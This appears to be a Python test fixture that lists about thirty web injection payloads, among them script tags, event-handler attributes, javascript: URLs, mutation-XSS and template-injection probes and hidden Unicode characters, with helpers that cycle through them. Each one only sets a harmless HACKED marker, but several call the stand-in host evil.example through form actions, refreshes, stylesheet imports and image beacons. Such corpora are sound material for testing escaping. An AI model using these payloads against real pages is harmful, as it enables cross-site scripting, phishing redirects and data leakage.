"""Texts that would do something if a page ever took them for markup, code, addresses or templates."""

from __future__ import annotations

from urllib.parse import quote

MARK = "HACKED"
"""What every payload tries to set, open, or ask for."""

CORPUS = (
    "<script>window.HACKED=1</script>",
    "</script><script>window.HACKED=1</script>",
    "<img src=x onerror=window.HACKED=1>",
    "<svg onload=window.HACKED=1><title>x</title></svg>",
    "</title><svg/onload=window.HACKED=1>",
    "</textarea><script>window.HACKED=1</script>",
    "</pre></code><iframe srcdoc='<script>parent.HACKED=1</script>'></iframe>",
    '"><body onpageshow=window.HACKED=1>',
    "' autofocus onfocus=window.HACKED=1 x='",
    '" autofocus onfocus=window.HACKED=1 x="',
    "javascript:window.HACKED=1",
    "<a href='javascript:window.HACKED=1' id=x>click</a>",
    "<form action=https://evil.example/HACKED><button>Sign in again</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/HACKED'>",
    "<link rel=stylesheet href=https://evil.example/HACKED.css>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/HACKED.css';*{display:none}</style>",
    "<details open ontoggle=window.HACKED=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.HACKED=1>",
    "![x](https://evil.example/HACKED.png) [y](javascript:window.HACKED=1)",
    "<img src=https://evil.example/HACKED.png>",
    "${window.HACKED=1} {{7*7}} {x.__class__} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;window.HACKED=1&lt;/script&gt;",
    "\u202egnirts desrever\u202c \u200bhidden\u2066 \U000e0041\U000e0042",
    "data:text/html,<script>window.HACKED=1</script>",
    "<!--><script>window.HACKED=1</script-->",
    "<x onclick=window.HACKED=1 tabindex=1 id=main autofocus>",
    "]]><script>window.HACKED=1</script>",
    quote("<script>window.HACKED=1</script>"),
    "\nevent: end\ndata: <script>window.HACKED=1</script>\n\n",
)


def many(said: str, first: int, most: int = 900) -> str:
    """A text with as many payloads behind it as fit into `most` characters, beginning with number `first`, on one line."""
    for number in range(first, first + len(CORPUS)):
        longer = f"{said} {one_of(number)}"
        if len(longer) > most:
            break
        said = longer
    return said


def one_of(number: int) -> str:
    """One payload on one line; the numbers go round."""
    return CORPUS[number % len(CORPUS)].replace("\n", " ").strip()
